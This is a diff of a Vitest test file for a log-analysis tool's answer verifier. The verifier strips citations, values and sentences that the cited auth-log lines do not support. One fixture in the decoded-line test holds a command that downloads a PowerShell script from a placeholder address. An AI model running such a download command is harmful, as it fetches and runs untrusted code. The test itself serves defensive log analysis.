@@ -1,47 +1,44 @@
 import { describe, expect, it } from "vitest";
-import type { Citation, RecordRow, ShapeId, StatementResult } from "@lagebild/domain";
+import type { Citation, StatementResult } from "@lagebild/domain";
+import type { AnswerMaterial, DraftAnswer } from "./answer-material.js";
+import { citationsOf } from "./cite-blocks.js";
 import type { ResolveLines } from "./resolved-line.js";
+import { testMaterial } from "./test-material.js";
 import { verifyAnswer } from "./verify-answer.js";
 
 const text = "Accepted password for backup from 203.0.113.7 port 51408 ssh2";
-const row: RecordRow = {
-  file: "auth.log",
-  line: 7,
-  byteOffset: 600,
-  byteLength: text.length,
-  time: undefined,
-  host: undefined,
-  program: undefined,
-  shape: "0123456789abcdef" as ShapeId,
-  chunk: 0,
-};
-const citation: Citation = {
-  id: 2,
-  file: "auth.log",
-  sha256: "aa",
-  firstLine: 7,
-  lastLine: 7,
-  byteOffset: 600,
-  byteLength: text.length,
-  text,
-};
+const other = "Failed password for admin from 198.51.100.9 port 40022 ssh2";
+const material = testMaterial([text, other], { language: "en", wants: "values" });
 const resolve: ResolveLines = async (file, lines) =>
-  file === row.file && lines.includes(row.line) ? [{ row, sha256: "aa", original: text, text }] : [];
-const draft = (values: readonly string[], citations: readonly Citation[] = [citation]) => ({
-  verdict: "answered" as const,
-  answer: "These lines answer best: [2]",
-  values,
-  citations,
+  [...material.linesOf.values()].flat().filter(({ row }) => row.file === file && lines.includes(row.line));
+const [citation] = citationsOf(material, [material.window.blocks[1]!]) as [Citation];
+const said = `These lines answer best:\n- \`${text}\` [2]`;
+const draft = (change: Partial<DraftAnswer> = {}): DraftAnswer => ({
+  verdict: "answered",
+  answer: said,
+  values: [],
+  citations: [citation],
+  ...change,
 });
+
+/** Material with an exact result as block 4, over both lines. */
+function withResult(result: StatementResult): AnswerMaterial {
+  const block = { id: 4, kind: "exact" as const, lines: [], text: "label", statement: result.statement };
+  return {
+    ...material,
+    window: { ...material.window, blocks: [...material.window.blocks, block] },
+    exact: [{ label: "label", result, samples: [] }],
+  };
+}
 
 describe("verifying an answer", () => {
   it("keeps what the original bytes hold", async () => {
-    const verified = await verifyAnswer(draft(["203.0.113.7", "Backup"]), [], resolve);
-    expect(verified).toMatchObject({ values: ["203.0.113.7", "Backup"], citations: [citation] });
+    const verified = await verifyAnswer(draft({ values: ["203.0.113.7", "Backup"] }), material, resolve);
+    expect(verified).toMatchObject({ answer: said, values: ["203.0.113.7", "Backup"], citations: [citation] });
     expect(verified.verification).toEqual({
       citationsChecked: 1,
       citationsFailed: 0,
-      valuesChecked: 2,
+      valuesChecked: 3,
       valuesFailed: 0,
       sentencesRemoved: 0,
     });
@@ -49,34 +46,90 @@ describe("verifying an answer", () => {
 
   it.each<[string, Partial<Citation>]>([
     ["another text", { text: text.replace("203", "204") }],
-    ["another line", { firstLine: 8 }],
+    ["another line", { firstLine: 11 }],
+    ["a line more", { lastLine: 11 }],
     ["another file", { file: "other.log" }],
     ["another hash", { sha256: "bb" }],
     ["another offset", { byteOffset: 601 }],
     ["another length", { byteLength: 3 }],
-  ])("takes out a citation of %s", async (_, change) => {
-    const verified = await verifyAnswer(draft([], [{ ...citation, ...change }]), [], resolve);
-    expect(verified).toMatchObject({ citations: [], verification: { citationsChecked: 1, citationsFailed: 1 } });
+  ])("takes out a citation of %s with what rests on it", async (_, change) => {
+    const changed = draft({ values: ["backup"], citations: [{ ...citation, ...change }] });
+    const verified = await verifyAnswer(changed, material, resolve);
+    expect(verified).toMatchObject({ citations: [], values: [], verdict: "insufficient" });
+    expect(verified.verification).toMatchObject({ citationsChecked: 1, citationsFailed: 1, sentencesRemoved: 1 });
+    expect(verified.answer).not.toContain("backup");
   });
 
-  it("takes out values that no cited line holds", async () => {
-    const verified = await verifyAnswer(draft(["203.0.113.8", "203.0.113.7"]), [], resolve);
-    expect(verified).toMatchObject({ values: ["203.0.113.7"], verification: { valuesChecked: 2, valuesFailed: 1 } });
+  it.each([
+    ["a changed quotation", `- \`${text.replace("backup", "backups")}\` [2]`],
+    ["the citation of another line", `- \`${text}\` [3]`],
+    ["a citation that does not exist", `- \`${text}\` [9]`],
+    ["no citation", `- \`${text}\``],
+    ["a time that no line has", `- 04:03:11 \`${text}\` [2]`],
+    ["a count that no run has", `- \`${text}\` (x 3) [2]`],
+    ["a part of an address", "At 203.0.113.70: [2]"],
+    ["an account of another line", "At admin: [2]"],
+    ["a number", "17 records match: [2]"],
+  ])("removes a sentence with %s", async (_, sentence) => {
+    const verified = await verifyAnswer(draft({ answer: `${said}\n${sentence}` }), material, resolve);
+    expect(verified).toMatchObject({ answer: said, verification: { sentencesRemoved: 1 } });
   });
 
-  it("takes out values whose only citation did not hold", async () => {
-    const verified = await verifyAnswer(draft(["backup"], [{ ...citation, sha256: "bb" }]), [], resolve);
-    expect(verified).toMatchObject({ values: [], citations: [] });
+  it("takes out values that no cited line holds as a whole", async () => {
+    const values = ["203.0.113.8", "203.0.113.7", "03.0.113.7", "admin"];
+    const verified = await verifyAnswer(draft({ values }), material, resolve);
+    expect(verified).toMatchObject({ values: ["203.0.113.7"], verification: { valuesFailed: 3 } });
   });
 
-  it("holds counts against exact results", async () => {
-    const count: StatementResult = { statement: { op: "count", where: {} }, matched: 1204, count: 1204 };
-    const verified = await verifyAnswer(draft(["1204", "1205"]), [count], resolve);
-    expect(verified.values).toEqual(["1204"]);
+  it("holds counts, lists and what they leave out against the result that the sentence cites", async () => {
+    const where = {};
+    const values = ["root", "admin"].map((value, i) => ({
+      value,
+      count: 8 - i,
+      firstTime: undefined,
+      lastTime: undefined,
+    }));
+    const top = withResult({
+      statement: { op: "top", of: { entity: "account" }, where, limit: 2 },
+      matched: 15,
+      values,
+      distinct: 4,
+    });
+    const list = "Account: root (x 8), admin (x 7) and 2 more. [4]";
+    const held = await verifyAnswer(draft({ answer: list, citations: [] }), top, resolve);
+    expect(held).toMatchObject({ answer: list, verification: { sentencesRemoved: 0, valuesFailed: 0 } });
+    for (const wrong of [
+      list.replace("x 8", "x 7"),
+      list.replace("root", "toor"),
+      list.replace("2 more", "3 more"),
+      "16 records match: [4]",
+    ]) {
+      const verified = await verifyAnswer(draft({ answer: wrong, citations: [] }), top, resolve);
+      expect(verified, wrong).toMatchObject({ verification: { sentencesRemoved: 1 } });
+    }
+  });
+
+  it("finds a quotation in what the line decodes to", async () => {
+    const line = { ...material.linesOf.get(2)![0]!, decoded: [{ text: "Invoke-WebRequest http://203.0.113.7/a.ps1" }] };
+    const decoded = { ...material, linesOf: new Map([[2, [line]]]) };
+    const read: ResolveLines = async () => [line];
+    const quote = "- `Invoke-WebRequest http://203.0.113.7/a.ps1` [2]";
+    expect(await verifyAnswer(draft({ answer: quote }), decoded, read)).toMatchObject({ answer: quote });
+    const changed = await verifyAnswer(draft({ answer: quote.replace("a.ps1", "b.ps1") }), decoded, read);
+    expect(changed).toMatchObject({ verification: { sentencesRemoved: 1 } });
+  });
+
+  it("holds a model to its values and leaves it its words", async () => {
+    const answer = "Someone got in as backup from 203.0.113.7. [2]\nSomeone got in from 198.51.100.9. [2]";
+    const verified = await verifyAnswer(draft({ answer }), material, resolve, "model");
+    expect(verified).toMatchObject({
+      answer: "Someone got in as backup from 203.0.113.7. [2]",
+      verification: { sentencesRemoved: 1, valuesFailed: 1 },
+    });
   });
 
   it("counts yes and no as no values", async () => {
-    const verified = await verifyAnswer(draft(["yes"]), [], resolve);
-    expect(verified).toMatchObject({ values: ["yes"], verification: { valuesChecked: 0 } });
+    const verified = await verifyAnswer(draft({ values: ["yes"] }), material, resolve);
+    expect(verified).toMatchObject({ values: ["yes"], verification: { valuesChecked: 1 } });
   });
 });
